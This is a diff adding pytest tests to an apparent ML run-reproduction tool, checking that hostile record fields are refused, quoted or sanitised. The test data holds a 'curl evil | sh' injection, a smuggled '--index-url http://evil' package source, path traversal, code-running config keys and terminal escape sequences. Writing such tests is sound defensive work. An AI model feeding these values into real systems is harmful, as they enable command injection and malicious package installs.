@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import json
+import shlex
 
 import pytest
 import yaml
@@ -152,6 +153,74 @@ def test_a_configuration_that_is_refused_today_is_told_with_its_lines(run, recor
     assert code == EXIT_USER
     assert "learning_rate" in told
     assert "sft.yaml:" in told
+
+
+HOSTILE = "1.0\n--index-url http://evil\n#"
+
+
+@pytest.mark.parametrize(
+    ("changes", "field"),
+    [
+        ({"versions": {"torch": HOSTILE}}, "versions"),
+        ({"versions": {"torch": "2.13.0\n"}}, "versions"),
+        ({"versions": {"torch @ http://evil/x.whl": "1.0"}}, "versions"),
+        ({"versions": ["torch"]}, "versions"),
+        ({"num_processes": "1; curl evil | sh #"}, "num_processes"),
+        ({"num_processes": True}, "num_processes"),
+        ({"num_processes": 0}, "num_processes"),
+        ({"stage": ["sft"]}, "stage"),
+        ({"stage": "../evil"}, "stage"),
+        ({"config": []}, "config"),
+        ({"provenance": {"seed": 1}}, "provenance"),
+        ({"model_commit": "main\n"}, "model_commit"),
+        ({"git_commit": 5}, "git_commit"),
+        ({"hardware": "x"}, "hardware"),
+        ({"data": 1}, "data"),
+    ],
+)
+def test_a_record_that_no_recipe_writes_is_refused_whole(run, tmp_path, changes, field):
+    code, told, error = run(**changes)
+    assert code == EXIT_USER
+    assert f"is no record of a run: {field}" in error
+    assert not told
+    assert not (tmp_path / "reproduced").exists()
+
+
+def test_keys_that_run_code_are_told_and_not_carried_over(run, record, tmp_path):
+    evil = {"metrics": ["os:system\nseed: 1"], "trust_remote_code": True, "attn_implementation": "evil/kernels"}
+    given = dict.fromkeys(evil, "sft.yaml:1")
+    code, told, _ = run(config=record["config"] | evil, provenance=record["provenance"] | given)
+    assert code == EXIT_DONE
+    restored = tmp_path / "reproduced" / "published" / "sft.yaml"
+    config = load_config("sft", ["--config", str(restored)])
+    flat = flatten_config(config)
+    assert [flat[key] for key in evil] == [None, False, None]
+    for key, value in evil.items():
+        assert f"# {key}: {json.dumps(value)}\n" in restored.read_text()
+        assert f"differs: the key {key}, which was " in told
+
+
+def test_no_list_of_keys_that_import_is_forgotten():
+    """Their help says what they name: whoever adds such a key is sent here."""
+    for stage in STAGES:
+        for name, key in load_table(stage).keys.items():
+            imports = any(words in key.help for words in ("package.module", "import path", "Run code"))
+            assert imports == reproduce.runs_code(name, "x"), (stage, name, key.help)
+
+
+def test_a_stranger_writes_no_line_and_no_escape_sequence_on_the_terminal(run, record, tmp_path):
+    config = record["config"] | {"dataset_name": "a\x1b[2Jb\nsame run: evil", "gone\x07": 1}
+    _, told, _ = run(config=config, hardware={"device": "\x1b]0;H200\x07"}, data={"inputs": {"sources": [1]}})
+    assert all(char.isprintable() or char == "\n" for char in told)
+    assert r"a\x1b[2Jb\nsame run: evil was a file or folder" in told
+    assert not any(line.startswith("same run:") for line in told.splitlines()), "the name is refused"
+
+
+def test_paths_are_quoted_in_the_commands(run, tmp_path):
+    folder = tmp_path / "a; id"
+    _, told, _ = run("--output", str(folder))
+    command = next(line for line in told.splitlines() if line.startswith("same run:")).partition(":")[2]
+    assert shlex.split(command)[-1] == str(folder / "sft.yaml")
 
 
 def test_from_the_hub_by_revision(hub, record, run, tmp_path, monkeypatch):
